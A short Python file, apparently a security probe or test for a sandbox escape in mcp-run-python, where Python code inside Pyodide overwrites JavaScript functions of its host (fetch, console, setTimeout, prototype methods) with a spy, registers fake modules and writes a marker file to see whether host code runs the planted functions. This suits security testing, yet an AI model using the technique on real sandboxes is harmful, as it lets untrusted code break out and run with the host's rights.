# From: mcp-run-python CVE-2026-25905: Python shadowed functions of the JavaScript around it, which then ran with its rights.
# Ends: []
# Ruins: gives JavaScript objects of its own
from gains import gains


def attack(probe):
    import js
    import pyodide_js
    from pyodide.ffi import create_proxy, register_js_module, to_js

    called = []
    spy = create_proxy(lambda *values: called.append(values))
    array = to_js([])
    holders = [js, pyodide_js, pyodide_js._api, array, array.constructor, array.__proto__, array.__proto__.__proto__, to_js({}), to_js(b"").constructor]

    def shadow(holder, name):
        setattr(holder, name, spy)
        return "shadowed" if getattr(array if holder is array.__proto__ else holder, name, None) is spy and holder not in (array,) and name in dir(array.__proto__) else None

    ways = []
    for holder in holders:
        for name in ("fetch", "console", "setTimeout", "push", "call", "apply", "then", "toString", "valueOf", "hasOwnProperty", "slice", "set", "subarray", "get", "has"):
            ways.append(lambda holder=holder, name=name: shadow(holder, name))
    found = gains(ways)
    for name in ("aardvark", "fs", "_api", "_module", "js"):
        try:
            register_js_module(name, to_js({"fetch": 1}))
        except Exception:
            pass
    # Work for the loader, in which it might meet one of them.
    open("/tmp/shadow", "w").write("x")
    to_js({"a": [1, b"2"]})
    print("x")
    return found + [str(values)[:80] for values in called]
